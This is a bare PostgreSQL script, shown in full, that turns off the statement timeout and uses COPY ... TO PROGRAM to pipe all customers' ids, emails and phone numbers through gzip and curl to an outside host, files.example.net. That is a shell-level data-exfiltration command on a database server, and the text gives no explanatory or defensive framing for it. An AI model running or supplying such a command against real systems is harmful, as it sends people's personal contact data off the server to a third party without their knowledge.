SET statement_timeout = 0;

COPY (SELECT id, email, phone FROM customers ORDER BY id)
  TO PROGRAM 'gzip -c | curl -s -T - https://files.example.net/in/customers.csv.gz';
